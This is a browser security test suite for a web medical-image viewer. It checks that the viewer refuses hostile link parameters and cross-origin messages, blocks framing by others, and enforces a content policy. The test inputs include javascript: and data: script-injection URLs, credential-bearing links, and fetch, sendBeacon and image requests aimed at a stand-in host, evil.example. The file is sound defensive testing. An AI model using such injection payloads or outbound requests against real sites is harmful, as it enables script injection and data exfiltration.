/** Links, messages and scripts of others: nothing runs, nothing leaves, and who is not named is not heard. */
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { script, zipOf } from '../security/hostile';
import { picture, root } from './browser';
import { writeDemo } from './demo-files';
import { hostileSession } from './hostile-session';
import { minutes } from './steps';

const { folder, fresh, origins, url } = hostileSession();

describe('links and messages', () => {
  const links: readonly (readonly [query: string, said: RegExp])[] = [
    ['?url=javascript:pwned=1', /javascript:pwned=1/],
    ['?url=data:text/html,<script>pwned=1</script>', /http or https/],
    ['?url=//evil.example/a.zip', /evil\.example/],
    ['?url=https://user:secret@evil.example/a.zip', /name or a password/],
    [`?study=${encodeURIComponent(script)}&server=x`, /no study instance UID/],
    [`?study=1.2.3&server=${encodeURIComponent(script)}`, /No server/],
  ];

  test('links to scripts, other places and things that are none are refused with a word', async () => {
    const page = await fresh();
    for (const [query, said] of links) {
      await page.goto(`${url()}${query}`);
      const notice = page.getByTestId('notice-link');
      await notice.waitFor({ timeout: minutes(1) });
      expect(await notice.textContent(), query).toMatch(said);
      expect(await notice.textContent()).not.toContain('secret');
    }
    await picture(page, 'security-link');
  });

  /** A page of another program: what it says to the frame and what it hears stands in `heard`. */
  const otherPage = async (app: string) => {
    const html = `<iframe src="${app}" style="width:900px;height:600px"></iframe><script>
      heard = []; addEventListener('message', (e) => heard.push({ origin: e.origin, ...e.data }));
      say = (data, target) => frames[0].postMessage(data, target);</script>`;
    const made = createServer((...[, response]) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(html),
    );
    await new Promise<void>((done) => made.listen(0, '127.0.0.1', done));
    const origin = `http://localhost:${(made.address() as AddressInfo).port}`;
    origins.push(origin);
    return { origin, close: () => made.close() };
  };
  type Heard = { origin: string; status: string; id?: number; reason?: string };
  const heard = (page: Page): Promise<Heard[]> =>
    page.evaluate(() => (globalThis as unknown as { heard: Heard[] }).heard);
  const say = (page: Page, data: object, target: string): Promise<void> =>
    page.evaluate(
      ([what, to]) => (globalThis as unknown as { say: (data: object, to: string) => void }).say(what, to),
      [data, target] as const,
    );

  test('the origin that is named opens a study and is answered; another one is not heard; nobody else may frame the page', async () => {
    const dist = join(folder, 'dist');
    cpSync(join(root, 'dist'), dist, { recursive: true });
    const slices = writeDemo(join(folder, 'zip'), 80, 82).map((path, n) => ({
      name: `${n}.dcm`,
      data: new Uint8Array(readFileSync(path)),
    }));
    writeFileSync(join(dist, 'study.zip'), zipOf(slices));
    const { serve } = await import('../../scripts/serve.mjs');
    // The port is known before the policy is made: the other pages name it, and it names them.
    const probe = await serve(0, dist);
    const port = Number(new URL(probe.url).port);
    await probe.close();
    const address = `http://localhost:${port}/`;
    const [ris, evil] = [await otherPage(address), await otherPage(address)];
    writeFileSync(
      join(dist, 'links.json'),
      JSON.stringify({ frames: [ris.origin, evil.origin], messages: [ris.origin] }),
    );
    const app = await serve(port, dist);
    expect(app.url).toBe(address);
    origins.push(new URL(address).origin);

    const page = await fresh(ris.origin);
    await expect
      .poll(async () => (await heard(page)).map(({ status }) => status), { timeout: minutes(1) })
      .toContain('ready');
    const frame = page.frames().find((one) => one.url().startsWith(address))!;
    expect(await frame.evaluate(() => crossOriginIsolated)).toBe(true);
    const target = new URL(address).origin;
    await say(page, { lamplight: 1, id: 1, url: 'study.zip' }, target);
    await expect
      .poll(async () => (await heard(page)).filter(({ id }) => id === 1).map(({ status }) => status), {
        timeout: minutes(1),
      })
      .toEqual(['opening', 'open']);
    await frame.getByTestId('study-name').waitFor();
    for (const [id, data, reason] of [
      [2, { url: 'javascript:pwned=1' }, 'scheme'],
      [3, { url: 'https://evil.example/a.zip' }, 'notAllowed'],
      [4, { study: script }, 'notUid'],
      [5, { study: '1.2.3', server: script }, 'noServer'],
      [6, { eval: 'pwned=1' }, 'nothing'],
    ] as const) {
      await say(page, { lamplight: 1, id, ...data }, target);
      await expect
        .poll(async () => (await heard(page)).findLast((one) => one.id === id))
        .toMatchObject({ origin: target, status: 'refused', reason });
    }
    await say(page, { lamplight: 1, id: 7, ask: 'status' }, target);
    await expect
      .poll(async () => (await heard(page)).find(({ id }) => id === 7))
      .toMatchObject({ status: 'ready' });
    await picture(page, 'security-framed');

    const other = await fresh(evil.origin);
    const warned: string[] = [];
    other.on('console', (message) => warned.push(message.text()));
    const inside = () => other.frames().find((one) => one.url().startsWith(address));
    await expect.poll(() => inside()?.getByTestId('open-demo').count(), { timeout: minutes(1) }).toBe(1);
    await say(other, { lamplight: 1, id: 9, url: 'study.zip' }, target);
    await expect
      .poll(() => warned.some((text) => text.includes('was not heard')), { timeout: minutes(1) })
      .toBe(true);
    expect(await heard(other)).toEqual([]);
    expect(await inside()!.getByTestId('study-name').count()).toBe(0);

    // The page as it comes lets nobody frame it.
    const framed = await otherPage(url());
    const third = await fresh(framed.origin);
    await expect.poll(() => third.frames().some((one) => one.url().startsWith('chrome-error:'))).toBe(true);
    for (const one of [ris, evil, framed]) one.close();
    await app.close();
  });
});

describe('the policy', () => {
  test('no text becomes a script or markup, nothing is sent elsewhere, no worker of elsewhere starts', async () => {
    const page = await fresh();
    const tried = await page.evaluate(async () => {
      const attempt = async (work: () => unknown): Promise<string> => {
        // What a debugger calls may do what the page may not: so it is called later, by nobody.
        await new Promise((later) => setTimeout(later));
        try {
          await work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      const evil = 'https://evil.example/x';
      return {
        // oxlint-disable-next-line no-eval
        eval: await attempt(() => (0, eval)('1+1')),
        // oxlint-disable-next-line typescript/no-implied-eval
        function: await attempt(() => new Function('return 1')()),
        html: await attempt(() => (document.body.innerHTML = '<b>x</b>')),
        adjacent: await attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        worker: await attempt(() => new Worker('data:text/javascript,1')),
        foreignWorker: await attempt(() => new Worker(evil)),
        policy: await attempt(() =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        fetch: await attempt(() => fetch(evil)),
        beacon: String(navigator.sendBeacon(evil, 'x')),
        image: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.addEventListener('load', resolve);
              image.addEventListener('error', () => reject(new TypeError('refused')));
              image.src = evil;
            }),
        ),
      };
    });
    expect(tried).toMatchObject({
      html: 'TypeError',
      adjacent: 'TypeError',
      worker: 'TypeError',
      foreignWorker: 'TypeError',
      policy: 'TypeError',
      fetch: 'TypeError',
      image: 'TypeError',
    });
    for (const how of [tried.eval, tried.function]) expect(['EvalError', 'TypeError']).toContain(how);
  });
});
